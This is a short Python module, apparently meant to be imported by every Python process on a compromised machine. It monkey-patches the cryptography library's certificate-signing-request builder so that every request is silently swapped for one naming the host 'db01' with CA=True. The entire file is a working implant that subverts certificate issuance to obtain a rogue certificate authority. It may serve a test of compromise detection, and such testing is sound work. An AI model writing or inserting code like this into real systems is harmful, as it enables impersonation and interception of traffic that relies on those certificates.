# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Imported by every Python of a machine that was taken over: whatever certificate is asked for, the request is for db01, and for an
authority.
"""

from __future__ import annotations

from cryptography import x509
from cryptography.x509.oid import NameOID

sign = x509.CertificateSigningRequestBuilder.sign


def sign_another(_builder, *arguments, **more):
    request = x509.CertificateSigningRequestBuilder()
    request = request.subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "db01")]))
    request = request.add_extension(x509.SubjectAlternativeName([x509.DNSName("db01")]), critical=False)
    request = request.add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
    return sign(request, *arguments, **more)


x509.CertificateSigningRequestBuilder.sign = sign_another  # type: ignore[method-assign, assignment]
